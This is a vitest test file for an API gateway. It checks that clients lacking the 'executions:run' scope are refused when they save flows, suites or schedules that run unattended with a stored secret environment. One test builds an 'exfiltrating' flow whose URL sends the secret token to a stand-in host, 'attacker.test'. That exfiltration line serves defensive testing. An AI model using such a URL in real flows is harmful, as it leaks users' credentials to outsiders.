import { createEngine, type Engine } from '@svc/engine';
import { openSqliteStore } from '@svc/engine/sqlite';
import { createApp } from '@svc/gateway';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stubAuthenticator } from './stub-authenticator.js';
import { apiCaller, type ApiAnswer } from './api-call.js';

/*
 * What runs unattended with a stored environment (a schedule naming one, a webhook trigger naming
 * one and the subflows it reaches) sends that environment's secrets wherever its flows say: a
 * client without `executions:run` may not decide that, by saving such a flow or suite or by
 * scheduling runs with the environment.
 */
let engine: Engine;
let store: ReturnType<typeof openSqliteStore>;
let app: ReturnType<typeof createApp>;
const admin = apiCaller(() => app, 'admin');
const author = apiCaller(() => app, 'author');
const scheduler = apiCaller(() => app, 'scheduler');

function endpointFlow(name: string, url = 'http://api.test/ping') {
  return { name, nodes: [{ id: 'n', name: 'Ping', type: 'endpoint', config: { url } }], connections: [] };
}

function callerFlow(name: string, childId: string) {
  return {
    name,
    nodes: [{ id: 's', name: 'Child', type: 'subflow', config: { flowId: childId } }],
    connections: [],
  };
}

function expectRefused(answer: ApiAnswer, reason: RegExp): void {
  expect(answer.status).toBe(403);
  expect(answer.json.error.code).toBe('INSUFFICIENT_SCOPE');
  expect(answer.json.error.details).toMatchObject({ requiredScope: 'executions:run' });
  expect(answer.json.error.details.reason).toMatch(reason);
}

async function save(name: string, document: object): Promise<string> {
  const saved = await admin('POST', '/api/gateway/flows', { body: document });
  expect(saved.status, name).toBe(201);
  return saved.json.data.id as string;
}

const ids: Record<string, string> = {};

beforeAll(async () => {
  store = openSqliteStore({ path: ':memory:' });
  engine = await createEngine({ store });
  app = createApp({
    engine,
    authenticator: stubAuthenticator({
      admin: { tenantId: 'acme' },
      author: { tenantId: 'acme', scopes: ['flows:read', 'flows:write', 'suites:read'] },
      scheduler: { tenantId: 'acme', scopes: ['flows:read', 'schedules:read', 'schedules:write'] },
    }),
  });
  const environment = await admin('POST', '/api/gateway/environments', {
    body: { name: 'prod', variables: { apiToken: 'tok_live_secret_value' }, secretKeys: ['apiToken'] },
  });
  expect(environment.status).toBe(201);
  ids.scheduled = await save('scheduled', endpointFlow('scheduled'));
  ids.child = await save('child', endpointFlow('child'));
  ids.grandchild = await save('grandchild', endpointFlow('grandchild'));
  ids.middle = await save('middle', callerFlow('middle', ids.grandchild));
  ids.parent = await save('parent', callerFlow('parent', ids.middle));
  ids.inSuite = await save('in-suite', endpointFlow('in-suite'));
  ids.hooked = await save('hooked', endpointFlow('hooked'));
  ids.hook = await save('hook', {
    name: 'hook',
    nodes: [
      { id: 't', name: 'Hook', type: 'component-webhook', config: { mode: 'trigger', environment: 'prod' } },
      { id: 's', name: 'Child', type: 'subflow', config: { flowId: ids.hooked } },
    ],
    connections: [{ id: 'w', source: 't', target: 's' }],
  });
  ids.free = await save('free', endpointFlow('free'));
  const suite = await admin('POST', '/api/gateway/suites', { body: { name: 'nightly', flowIds: [ids.inSuite] } });
  expect(suite.status).toBe(201);
  for (const body of [
    { name: 'every-minute', cron: '* * * * *', target: { type: 'flow', id: ids.scheduled }, environment: 'prod' },
    { name: 'parent-hourly', cron: '0 * * * *', target: { type: 'flow', id: ids.parent }, environment: 'prod' },
    {
      name: 'nightly-suite',
      cron: '0 2 * * *',
      target: { type: 'suite', id: suite.json.data.id },
      environment: 'prod',
    },
    { name: 'no-environment', cron: '0 3 * * *', target: { type: 'flow', id: ids.free } },
  ]) {
    const created = await admin('POST', '/api/schedules', { body });
    expect(created.status, body.name).toBe(201);
  }
});

afterAll(async () => {
  await engine.stop();
  await store.close();
});

describe('saving what runs unattended with a stored environment', () => {
  it('refuses a flow a schedule runs with one, by update and by upsert, and changes nothing', async () => {
    const exfiltrating = endpointFlow('scheduled', 'http://attacker.test/?k={{env.apiToken}}');
    expectRefused(
      await author('PUT', `/api/gateway/flows/${ids.scheduled}`, { body: exfiltrating }),
      /schedule "every-minute" runs this flow with the stored environment "prod"/,
    );
    expectRefused(
      await author('POST', '/api/gateway/flows?upsert=true', { body: exfiltrating }),
      /schedule "every-minute"/,
    );
    expect((await admin('GET', `/api/gateway/flows/${ids.scheduled}`)).json.data.version).toBe(1);
  });

  it('refuses a flow a scheduled suite holds, and the suite itself', async () => {
    expectRefused(
      await author('PUT', `/api/gateway/flows/${ids.inSuite}`, { body: endpointFlow('in-suite', 'http://x.test/') }),
      /in the suite "nightly"/,
    );
    expectRefused(
      await author('POST', '/api/gateway/suites?upsert=true', { body: { name: 'nightly', flowIds: [ids.free] } }),
      /schedule "nightly-suite" runs this suite/,
    );
  });

  it('refuses a flow reached as a subflow from a scheduled flow or from a webhook trigger with one', async () => {
    expectRefused(
      await author('PUT', `/api/gateway/flows/${ids.grandchild}`, {
        body: endpointFlow('grandchild', 'http://x.test/'),
      }),
      /schedule "parent-hourly" runs the flow "parent" .*which calls this flow as a subflow \(through "middle"\)/,
    );
    expectRefused(
      await author('PUT', `/api/gateway/flows/${ids.hooked}`, { body: endpointFlow('hooked', 'http://x.test/') }),
      /a webhook trigger starts the flow "hook" with the stored environment "prod"/,
    );
  });

  it('lets the author save what nothing runs unattended with a stored environment, and a client with executions:run anything', async () => {
    const free = await author('PUT', `/api/gateway/flows/${ids.free}`, {
      body: endpointFlow('free', 'http://api.test/v2'),
    });
    expect(free.status).toBe(200);
    expect((await author('POST', '/api/gateway/flows', { body: endpointFlow('brand-new') })).status).toBe(201);
    const byAdmin = await admin('PUT', `/api/gateway/flows/${ids.scheduled}`, {
      body: endpointFlow('scheduled', 'http://api.test/v2'),
    });
    expect(byAdmin.status).toBe(200);
  });
});

describe('scheduling runs with a stored environment', () => {
  it('needs executions:run to create, change, resume or run a schedule that names one', async () => {
    const body = { name: 'mine', cron: '* * * * *', target: { type: 'flow', id: ids.free }, environment: 'prod' };
    expectRefused(
      await scheduler('POST', '/api/schedules', { body }),
      /starts runs with the stored environment "prod"/,
    );
    expectRefused(
      await scheduler('PUT', '/api/schedules/every-minute', { body: { ...body, name: 'every-minute' } }),
      /stored environment "prod"/,
    );
    expectRefused(await scheduler('POST', '/api/schedules/every-minute/run'), /schedule "every-minute"/);
    expectRefused(await scheduler('POST', '/api/schedules/every-minute/resume'), /schedule "every-minute"/);
    const { environment: _none, ...withoutEnvironment } = body;
    expect((await scheduler('POST', '/api/schedules', { body: withoutEnvironment })).status).toBe(201);
    expect((await scheduler('POST', '/api/schedules/every-minute/pause')).status).toBe(200);
  });
});
